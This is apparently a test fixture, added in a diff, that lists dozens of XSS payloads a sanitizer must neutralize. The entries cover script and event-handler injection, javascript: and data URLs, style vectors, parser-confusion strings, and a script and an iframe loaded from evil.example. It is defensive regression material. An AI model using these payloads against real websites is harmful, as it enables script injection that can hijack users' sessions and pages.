@@ -0,0 +1,64 @@
+/**
+ * XSS payloads every sanitizer profile must neutralize
+ * Add the input of any bypass found here before fixing it.
+ */
+module.exports = [
+    // Script and event handlers
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="x" onerror="alert(1)"//>',
+    '<body onload=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+    '<details open ontoggle=alert(1)>',
+    '<p onmouseover="alert(1)">hover</p>',
+    '<img src=x =onerror=alert(1)>',
+    '<img src=x\tonerror=alert(1)>',
+    '<img/src=x/onerror=alert(1)>',
+
+    // Tags rebuilt from the pieces around a removed one
+    '<<b>img src=x onerror=alert(1)>',
+    '<<!---->img src=x onerror=alert(1)>',
+    '<<<b>b>img src=x onerror=alert(1)>>',
+    '<scr<script>ipt>alert(1)</script>',
+    '<<script>script>alert(1)<</script>/script>',
+    '<</p>img src=x onerror=alert(1)>',
+    '<<?x>img src=x onerror=alert(1)>',
+    '<<!x>img src=x onerror=alert(1)>',
+    '<\u0000img src=x onerror=alert(1)>',
+    '<<br>svg onload=alert(1)>',
+
+    // URLs
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href=" \u0001javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe src="https://evil.example/embed"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+
+    // Styles
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<p style="width: expression(alert(1))">x</p>',
+    '<style>body{background:url(javascript:alert(1))}</style>',
+
+    // Quoting and parser confusion
+    '<a title="\'><img src=x onerror=alert(1)>">x</a>',
+    '<img alt="x" src=x onerror=alert(1) alt=">',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<textarea><img src=x onerror=alert(1)></textarea>',
+    '<title><img src=x onerror=alert(1)></title>',
+    '<plaintext><img src=x onerror=alert(1)>',
+    '</p><img src=x onerror=alert(1)>',
+    '<a href="#"/onclick=alert(1)>x</a>',
+    '<img src=x onerror=alert(1)',
+    '&lt;img src=x onerror=alert(1)&gt;'
+];